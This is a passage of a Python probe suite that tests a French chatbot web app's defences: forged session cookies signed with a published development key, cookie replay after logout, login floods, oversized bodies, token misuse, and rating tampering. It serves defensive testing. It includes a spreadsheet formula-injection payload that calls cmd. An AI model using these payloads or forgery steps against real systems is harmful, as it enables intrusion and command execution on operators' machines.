    expect(dashboard.status_code == 200, f"the control, the genuine cookie: {shown(dashboard)}")
    # The payload of a signed cookie is readable: re-sign it, and an older form, with the
    # development key published in the repository.
    _, payload = URLSafeTimedSerializer("").loads_unsafe(genuine)
    forger = URLSafeTimedSerializer(DEV_SECRET_KEY, salt=SESSION_SALT)
    for forged in (payload, {"uid": 1, "csrf": "x"}, {"user_id": 1, "role": "supervisor"}):
        attacker = target.browser("198.51.100.11")
        attacker.cookies[SESSION_COOKIE] = forger.dumps(forged)
        response = attacker.get("/conseiller/tableau-de-bord")
        expect(
            response.status_code == 303 and "/conseiller/connexion" in response.headers["location"],
            f"a cookie signed with the development key: {shown(response)}",
        )
    return "303 to the login page for three cookies signed with the development key"


def console_cookie_after_logout(target: Target) -> str:
    browser = target.browser("192.0.2.12")
    expect(browser.log_in("sonde-conseiller-a").status_code == 303, "login")
    kept = dict(browser.cookies)
    expect(browser.get("/conseiller/prospects").status_code == 200, "the queue before logout")
    token = browser.csrf("/conseiller/prospects")
    logout = browser.post("/conseiller/deconnexion", data={"csrf_token": token})
    expect(logout.status_code == 303, f"logout: {shown(logout)}")
    replay = target.browser("192.0.2.12")
    replay.cookies.update(kept)
    for path in ("/conseiller/prospects", f"/conseiller/prospects/{target.lead_reference}"):
        response = replay.get(path)
        expect(response.status_code == 303, f"{path} with the old cookie: {shown(response)}")
    claim = replay.post(
        f"/conseiller/prospects/{target.lead_reference}/prise-en-charge",
        data={"csrf_token": token},
    )
    expect(claim.status_code in (303, 403), f"a claim with the old cookie: {shown(claim)}")
    expect(LeadStore(target.engine).get_lead(target.lead_reference).claimed_by is None, "claimed")
    return "the cookie kept from before logout opens nothing (303 to login, claim refused)"


# --- web app: login throttling --------------------------------------------------------------------


def login_flood_locks_the_account(target: Target) -> str:
    def attempt(index: int) -> int:
        attacker = target.browser(f"203.0.113.{10 + index % 5}")
        return attacker.log_in("sonde-cible", f"mauvais-mot-de-passe-{index}").status_code

    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(attempt, range(20)))
    expect(set(statuses) <= {401, 429} and 429 in statuses, f"flood answers: {statuses}")
    owner = target.browser("198.51.100.20").log_in("sonde-cible")
    expect(owner.status_code == 429, f"the right password during the lock: {shown(owner)}")
    expect("Retry-After" in owner.headers, "no Retry-After")
    bystander = target.browser("198.51.100.21").log_in("sonde-passant")
    expect(bystander.status_code == 303, f"another user: {shown(bystander)}")
    counts = {status: statuses.count(status) for status in sorted(set(statuses))}
    return f"flood answered {counts}; the account locked (429, Retry-After), others log in"


def login_flood_locks_the_address(target: Target) -> str:
    address = "203.0.113.77"
    statuses = [
        target.browser(address).log_in(f"inconnu-{index}", "nimporte-quoi-123").status_code
        for index in range(25)
    ]
    expect(statuses[-1] == 429, f"25 accounts tried from one address: {statuses}")
    right = target.browser(address).log_in("sonde-passant")
    expect(right.status_code == 429, f"a right password from that address: {shown(right)}")
    elsewhere = target.browser("198.51.100.22").log_in("sonde-passant")
    expect(elsewhere.status_code == 303, f"the same user elsewhere: {shown(elsewhere)}")
    return f"locked from attempt {statuses.index(429) + 1} of 25; other addresses served"


def login_flood_keeps_the_app_responsive(target: Target) -> str:
    done = threading.Event()
    latencies: list[float] = []
    failures: list[str] = []

    def watch() -> None:
        with httpx.Client(timeout=REQUEST_TIMEOUT_S, limits=CLIENT_LIMITS) as client:
            while not done.is_set():
                started = time.perf_counter()
                response = client.get(f"{target.webapp}/api/categories")
                latencies.append(time.perf_counter() - started)
                if response.status_code != 200:
                    failures.append(shown(response))
                time.sleep(0.1)

    def attempt(index: int) -> int:
        # Each from its own address, for an account of its own: every one costs a password check.
        attacker = target.browser(f"203.0.114.{index}")
        return attacker.log_in(f"cible-{index}", f"mauvais-{index}-0000").status_code

    watcher = threading.Thread(target=watch)
    started = time.perf_counter()
    watcher.start()
    try:
        with ThreadPoolExecutor(FLOOD_LOGINS) as pool:
            statuses = list(pool.map(attempt, range(FLOOD_LOGINS)))
    finally:
        done.set()
        watcher.join()
    flood_s = time.perf_counter() - started
    expect(not failures, f"other requests failed during the flood: {failures[:3]}")
    expect(len(latencies) >= 3, f"only {len(latencies)} other requests during the flood")
    worst = max(latencies)
    expect(worst < RESPONSIVE_S, f"another request waited {worst:.2f} s during the flood")
    expect(set(statuses) == {401}, f"flood answers: {set(statuses)}")
    return (
        f"{FLOOD_LOGINS} concurrent logins in {flood_s:.1f} s; {len(latencies)} catalogue "
        f"requests meanwhile, median {statistics.median(latencies) * 1000:.0f} ms, "
        f"max {worst * 1000:.0f} ms"
    )


# --- web app: body limits -------------------------------------------------------------------------


def chunked_feedback(target: Target) -> str:
    return expect_stopped_early(
        stream_chunked(target, "/api/feedback", "application/json"), 512 * KIB
    )


def chunked_recommendations(target: Target) -> str:
    return expect_stopped_early(
        stream_chunked(target, "/api/recommendations", "application/json"), 32 * KIB
    )


def chunked_login(target: Target) -> str:
    streamed = stream_chunked(
        target, "/conseiller/connexion", "application/x-www-form-urlencoded", address="192.0.2.51"
    )
    return expect_stopped_early(streamed, 64 * KIB)


def announced_length(target: Target) -> str:
    host, port = httpx.URL(target.webapp).host, httpx.URL(target.webapp).port
    assert port is not None
    head = (
        f"POST /api/feedback HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {OVERSIZED_BODY}\r\nConnection: close\r\n\r\n"
    ).encode()
    with socket.create_connection((host, port), timeout=REQUEST_TIMEOUT_S) as sock:
        sock.sendall(head + b"{")
        sock.settimeout(10)
        answer = sock.recv(4096)
    expect(answer.startswith(b"HTTP/1.1 413"), f"answered {answer[:80]!r} with 1 byte sent")
    return f"413 with 1 byte of the {OVERSIZED_BODY // MIB} MiB announced sent"


# --- web app: advisors ----------------------------------------------------------------------------


def api(target: Target, token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def notes_on_another_advisors_lead(target: Target) -> str:
    reference = target.lead_reference
    base = f"{target.webapp}/api/advisor/leads/{reference}"
    owner, other = target.tokens["sonde-conseiller-a"], target.tokens["sonde-conseiller-b"]
    claim = target.http.post(f"{base}/claim", headers=api(target, owner))
    expect(claim.status_code == 200, f"advisor A's claim: {shown(claim)}")
    refused = target.http.post(
        f"{base}/notes", json={"text": "Note d'un autre conseiller"}, headers=api(target, other)
    )
    expect(refused.status_code == 403, f"advisor B's note through the API: {shown(refused)}")
    console = target.browser("192.0.2.13")
    expect(console.log_in("sonde-conseiller-b").status_code == 303, "advisor B's login")
    token = console.csrf(f"/conseiller/prospects/{reference}")
    form = console.post(
        f"/conseiller/prospects/{reference}/notes",
        data={"csrf_token": token, "texte": "Note d'un autre conseiller (console)"},
    )
    expect(form.status_code == 403, f"advisor B's note through the console: {shown(form)}")
    own = target.http.post(
        f"{base}/notes", json={"text": "Rappel prévu"}, headers=api(target, owner)
    )
    expect(own.status_code == 201, f"the control, advisor A's own note: {shown(own)}")
    notes = LeadStore(target.engine).get_lead(reference).notes
    expect([note.text for note in notes] == ["Rappel prévu"], f"notes stored: {notes}")
    return "403 through the API and the console; only the claimant's note stored"


def api_tokens_refused(target: Target) -> str:
    leads = f"{target.webapp}/api/advisor/leads"
    revoke_api_token(target.engine, "sonde-revoque")
    attempts = {
        "expired": target.tokens["sonde-expire"],
        "revoked": target.tokens["sonde-revoque"],
        "made up": "vgk_" + secrets.token_urlsafe(32),
    }
    for name, token in attempts.items():
        response = target.http.get(leads, headers=api(target, token))
        expect(response.status_code == 401, f"an {name} token: {shown(response)}")
    in_url = target.http.get(leads, params={"token": target.tokens["sonde-conseiller-a"]})
    expect(in_url.status_code == 401, f"a valid token in the URL: {shown(in_url)}")
    control = target.http.get(leads, headers=api(target, target.tokens["sonde-conseiller-a"]))
    expect(control.status_code == 200, f"the control, a valid token: {shown(control)}")
    return "401 for expired, revoked, made-up and URL tokens; 200 for a valid one"


def deactivated_user(target: Target) -> str:
    browser = target.browser("192.0.2.14")
    expect(browser.log_in("sonde-desactive").status_code == 303, "login before deactivation")
    token = target.tokens["sonde-desactive"]
    leads = f"{target.webapp}/api/advisor/leads"
    expect(target.http.get(leads, headers=api(target, token)).status_code == 200, "token before")
    set_active(target.engine, "sonde-desactive", False)
    session = browser.get("/conseiller/prospects")
    expect(session.status_code == 303, f"the open session after deactivation: {shown(session)}")
    by_token = target.http.get(leads, headers=api(target, token))
    expect(by_token.status_code == 401, f"the API token after deactivation: {shown(by_token)}")
    again = target.browser("192.0.2.15").log_in("sonde-desactive")
    expect(again.status_code == 401, f"a new login with the right password: {shown(again)}")
    return "session, API token and login all refused at once"


def api_docs_hidden(target: Target) -> str:
    for path in ("/docs", "/redoc", "/openapi.json", "/docs/oauth2-redirect"):
        response = target.http.get(target.webapp + path)
        expect(response.status_code == 404, f"{path}: {shown(response)}")
    control = target.http.get(f"{target.webapp}/health")
    expect(control.status_code == 200, f"the control, /health: {shown(control)}")
    return "404 for /docs, /redoc, /openapi.json"


# --- web app: ratings -----------------------------------------------------------------------------


def rating(conversation_id: str, message_id: str, value: int, **fields: Any) -> dict[str, Any]:
    return {
        "conversation_id": conversation_id,
        "message_id": message_id,
        "rating": value,
        "question": "Le dégât des eaux est-il couvert ?",
        "answer": "Oui, dans la formule Confort.",
        **fields,
    }


def stored_ratings(target: Target, conversation_id: str) -> list[int]:
    items = FeedbackStore(target.engine).iter_all(None)
    return [item.rating for item in items if item.conversation_id == conversation_id]


def feedback_overwrite(target: Target) -> str:
    conversation = f"website:{uuid.uuid4().hex}"
    owner = target.browser("192.0.2.16")
    first = owner.post("/api/feedback", json=rating(conversation, "m-1", 5))
    expect(first.status_code == 201, f"the owner's rating: {shown(first)}")
    anonymous = target.browser("198.51.100.16").post(
        "/api/feedback", json=rating(conversation, "m-1", 1)
    )
    forger = target.browser("198.51.100.17")
    forger.cookies["vg_avis"] = secrets.token_urlsafe(32)
    forged = forger.post("/api/feedback", json=rating(conversation, "m-1", 1))
    for name, response in (("without a token", anonymous), ("with a made-up token", forged)):
        expect(response.status_code == 409, f"another browser {name}: {shown(response)}")
    expect(stored_ratings(target, conversation) == [5], "the rating changed")
    again = owner.post("/api/feedback", json=rating(conversation, "m-1", 4))
    expect(again.status_code == 200, f"the control, the owner changes it: {shown(again)}")
    expect(stored_ratings(target, conversation) == [4], "the owner's change was not kept")
    return "409 for other browsers, the rating unchanged; its owner may change it"


def csv_formulas(target: Target) -> str:
    conversation = f"website:{uuid.uuid4().hex}"
    posted = target.browser("192.0.2.17").post(
        "/api/feedback",
        json=rating(conversation, "m-1", 1, answer="+SUM(1;1)*cmd|' /C calc'!A0", **FORMULAS),
    )
    expect(posted.status_code == 201, f"the rating: {shown(posted)}")
    command = ["-m", "feedback", "--database-url", target.advisor_url, "export", "--format", "csv"]
    exported = subprocess.run(
        [sys.executable, *command],
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    rows = [row for row in csv.DictReader(io.StringIO(exported.stdout))]
    [row] = [row for row in rows if row["conversation_id"] == conversation]
    for column in ("question", "answer", "mode"):
        expect(row[column].startswith("'"), f"the {column} cell is live: {row[column]!r}")
    return "question, answer and mode cells start with an apostrophe"


# --- the suite ------------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Probe:
    id: str
    category: str
    attack: str  # what the attacker sends
    expected: str  # what must happen
    check: Callable[[Target], str]  # returns what it observed; OpenDoorError when the door is open


PROBES: tuple[Probe, ...] = (
    Probe(
        "rest-no-token",
        "REST channel",
        "a turn posted without the bearer token",
        "401, nothing stored",
        rest_without_token,
    ),
    Probe(
        "rest-wrong-token",
        "REST channel",
        "a wrong token, one a character off, the right one as ?token=",
        "401 each, nothing stored",
        rest_wrong_token,
    ),
    Probe(
        "rest-sender-website",
        "REST channel",
        "the token holder names a widget session as `sender` (bare and `website:`-prefixed)",
        "the widget conversation unchanged, nothing of it in the reply",
        rest_sender_in_another_namespace,
    ),
    Probe(
        "rest-sender-phone",
        "REST channel",
        "the token holder names a WhatsApp number as `sender`",
        "the WhatsApp conversation untouched; the turn lands in `rest:<sender>`",
        rest_sender_is_a_phone_number,
    ),
    Probe(
        "telegram-no-secret",
        "Telegram",
        "an update for a made-up chat without, then with a wrong, secret token header",
        "403, the chat's conversation untouched",
        telegram_without_secret,
    ),
    Probe(
        "telegram-set-webhook",
        "Telegram",
        "GET and POST /webhooks/telegram/set_webhook",
        "404",
        telegram_set_webhook,
    ),
    Probe(
        "twilio-signature",
        "WhatsApp (Twilio)",
        "a message for a phone number without, with a made-up, a replayed or a foreign signature",
        "403 each, the number's conversation untouched",
        twilio_forged,
    ),
    Probe(
        "messenger-signature",
        "Messenger",
        "an event with a bad SHA-256 signature, the legacy SHA-1 header only, or none",
        "403 each, the conversation untouched",
        messenger_forged,
    ),
    Probe(
        "messenger-verify-token",
        "Messenger",
        "the subscription handshake with a wrong verify token",
        "403, the challenge not echoed",
        messenger_verify_token,
    ),
    Probe(
        "slack-signature",
        "Slack",
        "an event unsigned, signed with another secret, or replayed an hour later",
        "4xx, the conversation untouched",
        slack_forged,
    ),
    Probe(
        "socketio-origin",
        "socket.io (website)",
        "a socket opened from a page of https://evil.example",
        "the handshake refused (400)",
        socketio_foreign_origin,
    ),
    Probe(
        "socketio-made-up-session",
        "socket.io (website)",
        "session ids chosen by the client, then a message naming the victim's session",
        "random ids confirmed instead; the victim's conversation unchanged",
        socketio_made_up_session,
    ),
    Probe(
        "socketio-no-session",
        "socket.io (website)",
        "a message on a socket that never asked for a session, naming the victim's",
        "ignored",
        socketio_message_without_session,
    ),
    Probe(
        "rasa-api",
        "Rasa HTTP API",
        "tracker, messages, events and status without the header token, the token in the URL, "
        "another secret's token, another conversation's token",
        "401 or 403 each, nothing of the conversation in the answer",
        rasa_api_refused,
    ),
    Probe(
        "console-cookie-flags",
        "Console sessions",
        "reading the session cookie's attributes in production",
        "Secure, HttpOnly, SameSite=Strict",
        console_cookie_flags,
    ),
    Probe(
        "console-dev-key",
        "Console sessions",
        "cookies signed with the published development key (a supervisor's session, older forms)",
        "redirected to the login page",
        console_dev_key_cookie,
    ),
    Probe(
        "console-after-logout",
        "Console sessions",
        "the session cookie replayed after logout",
        "redirected to the login page; no action taken",
        console_cookie_after_logout,
    ),
    Probe(
        "login-flood-account",
        "Login throttling",
        "20 wrong passwords for one account from five addresses, 8 at a time",
        "the account locked (429 with Retry-After, even for the right password); others served",
        login_flood_locks_the_account,
    ),
    Probe(
        "login-flood-address",
        "Login throttling",
        "25 accounts tried from one address",
        "the address locked; the same user from elsewhere served",
        login_flood_locks_the_address,
    ),
    Probe(
        "login-flood-responsive",
        "Login throttling",
        f"{FLOOD_LOGINS} concurrent logins, each a password check, while a visitor browses",
        f"the visitor's requests answered, none slower than {RESPONSIVE_S:g} s",
        login_flood_keeps_the_app_responsive,
    ),
    Probe(
        "body-chunked-feedback",
        "Body limits",
        f"{OVERSIZED_BODY // MIB} MiB chunked to /api/feedback (limit 512 KiB)",
        "413 before the body is read whole",
        chunked_feedback,
    ),
    Probe(
        "body-chunked-recommendations",
        "Body limits",
        f"{OVERSIZED_BODY // MIB} MiB chunked to /api/recommendations (limit 32 KiB)",
        "413 before the body is read whole",
        chunked_recommendations,
    ),
    Probe(
        "body-chunked-login",
        "Body limits",
        f"{OVERSIZED_BODY // MIB} MiB chunked to the console login (limit 64 KiB)",
        "413 before the body is read whole",
        chunked_login,
    ),
    Probe(
        "body-announced-length",
        "Body limits",
        f"Content-Length: {OVERSIZED_BODY // MIB} MiB announced, one byte sent",
        "413 at once",
        announced_length,
    ),
    Probe(
        "notes-other-advisor",
        "Advisor API and console",
        "advisor B adds a note to the lead advisor A claimed (API and console)",
        "403, no note stored",
        notes_on_another_advisors_lead,
    ),
    Probe(
        "api-tokens",
        "Advisor API and console",
        "API calls with an expired, a revoked, a made-up token, and a valid one in the URL",
        "401 each",
        api_tokens_refused,
    ),
    Probe(
        "deactivated-user",
        "Advisor API and console",
        "a deactivated user's open session, API token and login",
        "all refused",
        deactivated_user,
    ),
    Probe(
        "api-docs",
        "Advisor API and console",
        "/docs, /redoc, /openapi.json in production",
        "404",
        api_docs_hidden,
    ),
    Probe(
        "feedback-overwrite",
        "Ratings",
        "another browser rates a message already rated, knowing its ids",
        "409, the rating unchanged",
        feedback_overwrite,
    ),
    Probe(
        "feedback-csv-formulas",
        "Ratings",
        "a rating whose texts are spreadsheet formulas, then the operator's CSV export",
        "every such cell starts with an apostrophe",
        csv_formulas,
    ),
)


@dataclasses.dataclass(frozen=True)
class Result:
    probe: Probe
    held: bool
    observed: str
    seconds: float


def run_probe(target: Target, probe: Probe) -> Result:
    started = time.perf_counter()
    try:
        observed, held = probe.check(target), True
    except OpenDoorError as failure:
        observed, held = str(failure), False
    except Exception as error:  # the probe itself broke: reported, not a pass
        observed, held = f"the probe failed: {type(error).__name__}: {error}", False
    return Result(probe, held, observed, time.perf_counter() - started)


def run_probes(target: Target, probes: Sequence[Probe] = PROBES) -> list[Result]:
    return [run_probe(target, probe) for probe in probes]


def report(results: Sequence[Result]) -> dict[str, Any]:
    categories: dict[str, dict[str, int]] = {}
    for result in results:
        entry = categories.setdefault(result.probe.category, {"probes": 0, "held": 0})
        entry["probes"] += 1
        entry["held"] += result.held
    return {
        "probes": len(results),
        "held": sum(result.held for result in results),
        "categories": categories,
        "failures": [
            {"id": r.probe.id, "expected": r.probe.expected, "observed": r.observed}
            for r in results
            if not r.held
        ],
        "observed": {r.probe.id: r.observed for r in results},
        "seconds": round(sum(r.seconds for r in results), 1),
    }


def markdown(result: Mapping[str, Any]) -> str:
    lines = ["| Category | Probes | Held |", "|---|---:|---:|"]
    for name, entry in result["categories"].items():
        lines.append(f"| {name} | {entry['probes']} | {entry['held']} |")
    lines.append(f"| **total** | {result['probes']} | {result['held']} |")
    lines += ["", f"Probes played in {result['seconds']} s.", ""]
    for probe_id, observed in result["observed"].items():
        lines.append(f"- {probe_id}: {observed}")
    if result["failures"]:
        lines += ["", "Open doors:", ""]
        for failure in result["failures"]:
            lines.append(
                f"- {failure['id']}: expected {failure['expected']}; observed {failure['observed']}"
            )
    return "\n".join(lines)
